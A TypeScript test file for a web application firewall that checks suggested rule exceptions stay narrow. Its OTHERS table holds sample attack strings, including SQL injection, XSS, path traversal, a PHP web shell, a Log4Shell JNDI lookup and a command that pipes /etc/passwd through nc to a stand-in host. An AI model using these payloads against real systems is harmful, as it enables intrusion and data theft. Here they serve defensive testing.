// For each rule: its event alone is enough to except what was blocked, and nothing else.
import { describe, expect, test } from "vitest";
import {
  eventText,
  exceptionYaml,
  memorySink,
  suggestException,
  type WafEvent,
} from "../../support/source/engine/events.ts";
import { createWaf, type Waf } from "../../support/source/engine/firewall.ts";
import type { RequestData } from "../../support/source/request/model.ts";
import { managedRulesets, wirewallCore } from "../../support/source/rules/managed.ts";
import { uncheckedRuleset } from "../../support/source/rules/ruleset.ts";
import { at, type Case, query } from "./support.ts";
import { cases } from "./tables.ts";

const requestOf = (given: Case): RequestData => (typeof given === "string" ? query(given) : given);

/** A firewall in which the rule blocks, with an exception's text in front. */
function firewall(ref: string, exception: object | undefined) {
  const sink = memorySink();
  const core = {
    ref: "core",
    expression: "true",
    action: "execute",
    action_parameters: {
      id: "wirewall-core",
      overrides: { rules: [{ id: ref, action: "block", enabled: true }] },
    },
  };
  const entry = {
    id: "entry",
    name: "Managed",
    kind: "zone",
    phase: "http_request_firewall_managed",
    rules: exception === undefined ? [core] : [exception, core],
  };
  const waf = createWaf(
    { rulesets: [uncheckedRuleset(entry)] },
    {
      managed: managedRulesets,
      events: [sink],
      onError: (error) => {
        throw error;
      },
    },
  );
  return { waf, sink };
}

/** As it comes out of a log: a line of JSON. */
function loggedEvent(ref: string, request: RequestData): WafEvent {
  const { waf, sink } = firewall(ref, undefined);
  expect(waf.evaluateSync(request, { oversize: "inspect" }).action).toBe("block");
  return JSON.parse(JSON.stringify(sink.events[0]));
}

/** Attacks of other classes, each enough by itself. */
const OTHERS: Readonly<Record<string, string>> = {
  sqli: "1' UNION SELECT password FROM users--",
  xss: "<script>alert(document.cookie)</script>",
  traversal: "../../../../etc/passwd",
  rce: "; cat /etc/passwd | nc 203.0.113.7 4444",
  php: "<?php system($_GET['c']); ?>",
  java: "${" + "jndi:ldap://203.0.113.7/a}",
};

function expectOthersBlocked(waf: Waf, event: WafEvent): void {
  const told = [...event.matches, ...(event.further ?? [])];
  const excepted = new Set(told.flatMap(({ rule }) => rule.categories ?? []));
  for (const [attack, payload] of Object.entries(OTHERS)) {
    if (!excepted.has(attack))
      expect([attack, waf.evaluateSync(query(payload)).action]).toEqual([attack, "block"]);
  }
}

const requestRules = new Set(wirewallCore.rules.map(({ ref }) => ref));

describe("the exception that an event suggests", () => {
  test.each(cases.filter(([ref]) => requestRules.has(ref)))("%s", (ref, { matches }) => {
    for (const given of matches.slice(0, 3)) {
      const request = requestOf(given);
      const event = loggedEvent(ref, request);
      const suggestion = suggestException(event);
      if (suggestion === undefined) return expect.fail("there is none");
      expect([suggestion.ruleset, suggestion.before, suggestion.phase]).toEqual([
        "entry",
        "core",
        "http_request_firewall_managed",
      ]);
      expect(eventText(event)).toContain(exceptionYaml(suggestion).split("\n")[0]);
      const { waf, sink } = firewall(ref, suggestion.rule);
      expect(
        waf.evaluateSync(request, { oversize: "inspect" }).action,
        `${JSON.stringify(sink.events).slice(0, 3000)}`,
      ).toBe("allow");
      if (typeof given !== "string") continue;
      expect(waf.evaluateSync(at(`/search?other=${encodeURIComponent(given)}`)).action).toBe("block");
      expect(waf.evaluateSync(at(`/elsewhere?q=${encodeURIComponent(given)}`)).action).toBe("block");
      expectOthersBlocked(waf, event);
    }
  });
});
